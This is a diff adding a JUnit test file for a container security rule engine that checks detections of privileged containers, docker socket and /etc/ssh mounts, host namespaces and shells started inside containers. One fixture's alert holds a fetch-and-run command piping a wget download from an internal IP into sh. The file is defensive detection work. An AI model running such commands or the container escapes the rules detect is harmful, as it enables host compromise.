@@ -1,0 +1,138 @@
+package dev.dockward.rules;
+
+import static org.junit.jupiter.api.Assertions.assertEquals;
+import static org.junit.jupiter.api.Assertions.assertFalse;
+import static org.junit.jupiter.api.Assertions.assertTrue;
+
+import java.util.List;
+import java.util.Map;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.CsvSource;
+
+class BundledRulesTest {
+    private static final LoadResult LOADED = RuleLoader.load(RuleFiles.bundled());
+    private static final RuleEngine ENGINE = new RuleEngine(LOADED.ruleSet());
+
+    @Test
+    void bundledRulesLoadWithoutAnyProblem() {
+        assertEquals(List.of(), LOADED.problems());
+        assertEquals(List.of("privileged_container_started", "dangerous_capability_added", "docker_socket_mounted",
+                "sensitive_host_mount", "host_namespace_shared", "container_exec_session", "shell_in_container"),
+                LOADED.ruleSet().rules().stream().map(Rule::id).toList());
+    }
+
+    @Test
+    void everyBundledRuleHasDescriptionMitreTagAndOutput() {
+        for (Rule rule : LOADED.ruleSet().rules()) {
+            assertFalse(rule.description().isBlank(), rule.id());
+            assertTrue(rule.tags().stream().anyMatch(t -> t.matches("mitre\\.T\\d{4}(\\.\\d{3})?")), rule.id());
+            assertTrue(rule.output().contains("{container.name}"), rule.id());
+            assertTrue(rule.origin().startsWith("bundled/"), rule.id());
+        }
+    }
+
+    /** Positive fixtures: exactly these rules fire. */
+    @ParameterizedTest
+    @CsvSource({
+        "container_start_privileged,     privileged_container_started",
+        "container_start_cap_sys_admin,  dangerous_capability_added",
+        "container_start_docker_socket,  docker_socket_mounted",
+        "container_start_etc_mount,      sensitive_host_mount",
+        "container_start_host_namespaces, host_namespace_shared",
+        "docker_exec,                    container_exec_session",
+        "exec_shell_in_container,        shell_in_container",
+    })
+    void positiveFixtureFiresExactlyItsRule(String fixture, String rule) {
+        assertEquals(List.of(rule), Fixtures.firedIds(ENGINE, Fixtures.event(fixture)));
+    }
+
+    /** Negative fixtures: the same kind of event, harmless; nothing fires. */
+    @ParameterizedTest
+    @CsvSource({
+        "container_start_plain",        // not privileged, bridge network, read-only bind of /srv/data
+        "container_start_cap_harmless", // cap_add of capabilities in Docker's default set
+        "container_start_volume",       // a named volume below /var/lib/docker is not a bind of Docker's data
+        "container_stop",               // the same container stopping is no exec session
+        "exec_shell_on_host",           // a host process named sh
+        "exec_shell_allowed_label",     // the container opts out with dockward.allow-shell=true
+        "exec_httpd_in_container",      // a process in a container that is no shell
+    })
+    void negativeFixtureFiresNothing(String fixture) {
+        assertEquals(List.of(), Fixtures.firedIds(ENGINE, Fixtures.event(fixture)));
+    }
+
+    @Test
+    void dangerousCapabilityEvidenceNamesOnlyTheDangerousOnes() {
+        RuleMatch match = ENGINE.evaluate(Fixtures.event("container_start_cap_sys_admin")).get(0);
+        assertEquals(List.of("SYS_ADMIN", "NET_ADMIN"), match.evidence().get("capabilities"));
+        assertEquals("container web (dockward/busybox:test) started with dangerous capabilities SYS_ADMIN,NET_ADMIN",
+                match.summary());
+    }
+
+    @Test
+    void dockerSocketIsNotAlsoReportedAsSensitiveMount() {
+        RuleMatch match = ENGINE.evaluate(Fixtures.event("container_start_docker_socket")).get(0);
+        assertEquals(List.of("/var/run/docker.sock -> /var/run/docker.sock"), match.evidence().get("sockets"));
+        assertEquals(true, match.evidence().get("writable"));
+    }
+
+    @Test
+    void sensitiveMountEvidenceListsOnlyTheSensitivePaths() {
+        RuleMatch match = ENGINE.evaluate(Fixtures.event("container_start_etc_mount")).get(0);
+        assertEquals(List.of("/etc/ssh -> /host/ssh (rw)"), match.evidence().get("paths"));
+    }
+
+    @Test
+    void hostNamespaceEvidenceSaysWhich() {
+        RuleMatch match = ENGINE.evaluate(Fixtures.event("container_start_host_namespaces")).get(0);
+        assertEquals(List.of("pid", "network"), match.evidence().get("namespaces"));
+        assertEquals("container web (dockward/busybox:test) shares host namespaces: pid,network", match.summary());
+    }
+
+    @Test
+    void execSessionEvidenceCarriesTheExec() {
+        RuleMatch match = ENGINE.evaluate(Fixtures.event("docker_exec")).get(0);
+        assertEquals(Map.of("cmdline", "sh -c id", "user", "root", "tty", true, "privileged", false),
+                match.evidence());
+        assertEquals("docker exec in container web (dockward/busybox:test): sh -c id as user root", match.summary());
+    }
+
+    @Test
+    void shellAlertDocumentFollowsTheContract() {
+        Map<String, Object> event = Fixtures.event("exec_shell_in_container");
+        RuleMatch match = ENGINE.evaluate(event).get(0);
+        Map<String, Object> doc = AlertDocuments.of(match.toAlert("h1-000000000000002a", event));
+        assertEquals(List.of("schema", "kind", "id", "time", "host", "rule", "severity", "tags", "summary",
+                "container", "process", "evidence", "event_id"), List.copyOf(doc.keySet()));
+        assertEquals(1L, doc.get("schema"));
+        assertEquals("alert", doc.get("kind"));
+        assertEquals("2026-11-23T05:41:02.118Z", doc.get("time"));
+        assertEquals("medium", doc.get("severity"));
+        assertEquals(List.of("mitre.T1059.004", "container"), doc.get("tags"));
+        assertEquals("shell sh (pid 4321) started in container web (dockward/busybox:test):"
+                + " sh -c wget -qO- http://10.0.0.5/x | sh", doc.get("summary"));
+        assertEquals("3f9a0c1d2e4b-0000000000000034", doc.get("event_id"));
+        assertEquals(4321L, ((Map<?, ?>) doc.get("process")).get("pid"));
+        assertEquals("web", ((Map<?, ?>) doc.get("container")).get("name"));
+        assertEquals(Map.of("cmdline", "sh -c wget -qO- http://10.0.0.5/x | sh", "exe", "/bin/busybox",
+                "ppid", 4242L, "uid", 0L), doc.get("evidence"));
+    }
+
+    @Test
+    void hostEventAlertHasNoContainerKey() {
+        RuleSet set = Fixtures.load("t.yaml", """
+                rules:
+                  - id: host_shell
+                    condition: event.type == "exec" && proc.name == "sh"
+                    severity: low
+                    output: "{proc.name} in {container.name}"
+                """).ruleSet();
+        Map<String, Object> event = Fixtures.event("exec_shell_on_host");
+        RuleMatch match = new RuleEngine(set).evaluate(event).get(0);
+        assertEquals("sh in <none>", match.summary());
+        Map<String, Object> doc = AlertDocuments.of(match.toAlert("a1", event));
+        assertFalse(doc.containsKey("container"));
+        assertTrue(doc.containsKey("process"));
+    }
+}
